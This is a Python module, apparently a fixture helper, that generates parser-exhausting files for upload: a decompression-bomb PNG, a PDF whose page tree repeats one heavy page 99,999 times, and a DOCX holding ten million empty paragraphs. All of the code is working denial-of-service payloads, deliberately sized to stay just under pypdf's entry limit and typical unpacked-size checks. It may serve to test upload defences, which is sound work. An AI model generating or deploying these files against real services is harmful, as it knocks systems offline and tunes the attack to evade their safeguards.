"""Files built to exhaust a parser, made here, small to upload and ruinous to read."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import docx


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def blank_png(width: int, height: int) -> bytes:
    """A black 1-bit PNG of width x height pixels: 11000 x 11000 is ~15 KB on disk, 121 MB decoded."""
    row = b"\0" * (1 + (width + 7) // 8)  # filter byte, then the packed pixels
    compressor = zlib.compressobj(9)
    pixels = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)  # 1 bit, greyscale
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", pixels) + _png_chunk(b"IEND", b"")


def page_tree_pdf(pages: int = 99_999, lines_per_page: int = 20_000) -> bytes:
    """A PDF whose page tree lists one page `pages` times (just under pypdf's 100,000-entry limit), that
    page's content stream being `lines_per_page` text operations: ~1 s of pypdf per page read, in a few KB."""
    content = zlib.compress(b"BT /F1 12 Tf 72 720 Td (Hello from a hostile page) Tj ET\n" * lines_per_page, 9)
    kids = b" ".join([b"3 0 R"] * pages)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(content) + content + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    out.writelines(b"%010d 00000 n \n" % offset for offset in offsets)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


def paragraph_bomb_docx(paragraphs: int = 10_000_000) -> bytes:
    """A real Word document whose body is `paragraphs` empty paragraphs: ~60 KB zipped, 18 MB of XML
    (well under any unpacked-size check) that python-docx takes minutes and gigabytes to read."""
    template = io.BytesIO()
    docx.Document().save(template)
    out = io.BytesIO()
    with (
        zipfile.ZipFile(template) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as bomb,
    ):
        for item in source.infolist():
            if item.filename != "word/document.xml":
                bomb.writestr(item, source.read(item))
                continue
            head, tail = source.read(item).split(b"<w:body>", 1)
            with bomb.open("word/document.xml", "w") as document:
                document.write(head + b"<w:body>")
                for _ in range(paragraphs // 100_000):
                    document.write(b"<w:p/>" * 100_000)
                document.write(tail)
    return out.getvalue()
